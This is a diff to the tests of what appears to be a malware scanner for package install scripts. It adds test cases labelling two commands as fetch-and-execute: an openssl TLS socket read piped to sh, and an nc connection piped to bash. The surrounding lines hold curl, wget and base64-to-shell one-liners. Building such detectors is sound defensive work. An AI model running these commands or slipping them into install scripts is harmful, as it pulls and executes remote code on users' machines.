@@ -42,6 +42,10 @@ def rules(art: Artifact) -> set[str]:
     ("bash -c 'source <(curl -fsSL http://198.51.100.73/p/fmt.sh || wget -qO- http://198.51.100.73/p/fmt.sh) &'",
      "install-script/fetch-and-execute"),
     ("bash <(wget -qO- https://get.example/setup.sh)", "install-script/fetch-and-execute"),
+    # blind set 42's reqeust: a raw TLS socket read piped to the shell, no downloader named
+    ("openssl s_client -quiet -connect 198.51.100.23:443 </dev/null 2>/dev/null | sh >/dev/null 2>&1 || true",
+     "install-script/fetch-and-execute"),
+    ("nc 198.51.100.23 4444 | bash", "install-script/fetch-and-execute"),
     (". <( (curl -s https://x.example/env.sh || wget -qO- https://x.example/env.sh) )", "install-script/fetch-and-execute"),
     ("curl -o /tmp/x https://dl.example/x", "install-script/downloads"),
     ("echo aGVsbG8= | base64 -d | sh", "install-script/encoded-command"),
@@ -198,6 +202,14 @@ def test_no_scripts_no_findings():
 ])
 def test_reverse_shells_and_beacons_are_malicious_alone(command):
     assert decide(findings(artifact({"postinstall": command}))).level is Level.MALICIOUS
+
+
+@pytest.mark.parametrize("command", [
+    "nc -z localhost 5432 || echo 'start the database first'",
+    "openssl s_client -connect localhost:8443 </dev/null | openssl x509 -noout -dates",
+])
+def test_a_socket_read_nothing_runs_is_no_download_that_runs(command):
+    assert "install-script/fetch-and-execute" not in rules(artifact({"install": command}))
 
 
 @pytest.mark.parametrize("command", [
